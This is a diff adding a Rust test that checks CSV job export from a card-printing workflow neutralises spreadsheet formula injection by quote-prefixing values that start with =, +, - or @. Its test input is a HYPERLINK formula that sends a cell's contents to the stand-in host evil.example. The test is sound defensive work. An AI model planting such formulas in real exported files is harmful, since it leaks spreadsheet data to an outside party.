@@ -41,3 +41,32 @@ fn an_unknown_card_exports_nothing() {
     assert!(err.to_string().contains("C-404"), "{err}");
     assert!(!folder.exists() || std::fs::read_dir(&folder).expect("dir").next().is_none());
 }
+
+#[test]
+fn card_data_that_looks_like_a_formula_is_quoted_in_the_job_file() {
+    let b = bench();
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let mut body = common::request("+C-1", "S-1", &["MIFARE_UID"]);
+    body["card"]["cardElements"] = serde_json::json!({"NAME": evil, "@EMPLOYEE_NO": "-4711", "CITY": "Malmö"});
+    let body = serde_json::to_vec(&body).expect("json");
+    let id = uuid::Uuid::new_v4().to_string();
+    let envelope = cardbench_store::inbox::Envelope {
+        message_id: Some(&id),
+        subject: Some(cardbench_protocol::Subject::RequestSent.as_str()),
+        body: &body,
+        ..Default::default()
+    };
+    let report = b.wf.ingest(&[envelope]).expect("ingest");
+    assert!(matches!(report.outcomes[0], cardbench_workflow::IngestOutcome::Accepted { .. }), "{:?}", report.outcomes);
+    let folder = b.dir.path().join("jobs");
+    let ids = vec!["+C-1".to_owned()];
+    let job = b.wf.store().read(|c| export_job(c, &ids, &ExportConfig::default(), &folder, "x")).expect("export");
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&job.path).expect("csv");
+    let rows: Vec<Vec<String>> = reader.records().map(|r| r.expect("record").iter().map(str::to_owned).collect()).collect();
+    assert_eq!(rows[0], ["cardId", "NAME", "'@EMPLOYEE_NO", "CITY", "expectedFields"]);
+    assert_eq!(rows[1], ["'+C-1", &format!("'{evil}"), "'-4711", "Malmö", "MIFARE_UID"]);
+    // An encoder that needs the values raw can have them.
+    let raw = ExportConfig { spreadsheet_safe: false, ..Default::default() };
+    let job = b.wf.store().read(|c| export_job(c, &ids, &raw, &folder, "raw")).expect("export");
+    assert!(std::fs::read_to_string(&job.path).expect("read").contains("\r\n+C-1,"), "raw when asked");
+}
